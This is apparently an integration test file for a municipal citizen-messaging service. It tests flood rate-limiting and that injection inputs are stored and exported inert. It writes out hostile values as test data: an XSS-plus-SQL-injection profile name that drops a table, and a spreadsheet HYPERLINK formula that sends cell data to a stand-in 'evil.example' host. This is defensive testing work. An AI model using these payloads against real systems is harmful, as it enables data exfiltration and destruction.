import { Stack, waitFor } from './stack';

/** Nasty citizens through the real path: sandbox phone → signed webhook → API → worker → sandbox. */
describe('abuse by citizens', () => {
  let s: Stack;
  let token: string;
  const api = () => s.api.http();
  const auth = () => ({ Authorization: `Bearer ${token}` });

  beforeAll(async () => {
    s = await Stack.start();
    token = (await api().post('/api/v1/auth/login').send({ email: 'admin@bientina.bacheca.local', password: 'demo-password-123' }).expect(200)).body.accessToken;
  }, 60_000);
  afterAll(() => s.stop());

  const processed = (tenantId: string) =>
    s.db((em) => em.query(`select count(*) filter (where processed_at is not null)::int as done, count(*)::int as total from webhook_events where tenant_id = $1 and kind = 'message'`, [tenantId]));

  it('a citizen sending 1,000 messages a minute gets at most the configured automatic answers (one per interval)', async () => {
    const tenantId = await s.comuneId('bientina');
    const [before] = await processed(tenantId);
    const phone = '+393409990001';
    const texts = ['ciao', 'che ore sono?', 'aiuto', 'boh', 'info'];
    let next = 0;
    // 20 at a time: the API stores each as its own job, and the worker runs several jobs at once.
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        for (let i = next++; i < 1000; i = next++) await s.say('bientina', phone, `${texts[i % texts.length]} ${i}`);
      }),
    );
    await waitFor(async () => {
      const [now] = await processed(tenantId);
      return now.done - before.done >= 1000 && now.done === now.total ? true : undefined;
    }, 240_000);
    const answers = await s.messagesTo('bientina', phone);
    const [settings] = await s.db((em) => em.query(`select auto_reply_interval_minutes as m from service_settings where tenant_id = $1`, [tenantId]));
    expect(settings?.m ?? 1440).toBeGreaterThanOrEqual(1);
    // The whole flood fits in one interval (a day by default, at least a minute): exactly one answer.
    expect(answers).toHaveLength(1);
  }, 400_000);

  it('SQL and script in a citizen name and message: stored as text, exported inert (CSV cells cannot be formulas)', async () => {
    const phone = '+393409990002';
    const name = `<img src=x onerror=alert(1)>'); DROP TABLE subscribers;--`;
    await s.say('bientina', phone, 'ATTIVA', { profileName: name });
    await s.reply('bientina', phone, 1, 60_000);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"clic")';
    await s.say('bientina', phone, formula, { profileName: name });
    await s.reply('bientina', phone, 2).catch(() => undefined); // an answer may be rate-limited; the event is what matters
    const tenantId = await s.comuneId('bientina');
    await waitFor(async () => {
      const rows = await s.db((em) => em.query(`select payload from webhook_events where tenant_id = $1 and payload->>'text' = $2 and processed_at is not null`, [tenantId, formula]));
      return rows.length === 1 ? rows : undefined;
    });
    const [stored] = await s.db((em) => em.query(`select payload->>'profileName' as name from webhook_events where tenant_id = $1 and payload->>'text' = $2`, [tenantId, formula]));
    expect(stored.name).toBe(name);
    expect((await s.db((em) => em.query(`select count(*)::int as n from subscribers where tenant_id = $1`, [tenantId])))[0].n).toBeGreaterThan(0);

    const found = await api().get('/api/v1/subscribers/lookup').query({ phone }).set(auth()).expect(200);
    const json = await api().get(`/api/v1/subscribers/${found.body.id}/export`).set(auth()).expect(200);
    expect(json.headers['content-type']).toContain('application/json');
    expect(JSON.parse(json.text).messagesReceived.map((m: { text: string }) => m.text)).toContain(formula);
    const csv = await api().get(`/api/v1/subscribers/${found.body.id}/export?format=csv`).set(auth()).expect(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const cells = csv.text.split(/\r\n/).flatMap((line) => line.split(','));
    // No cell a spreadsheet would evaluate: each starts with a quote mark or harmless text.
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    expect(csv.text).toContain(`'${formula.replace(/"/g, '""')}`);
  });
});
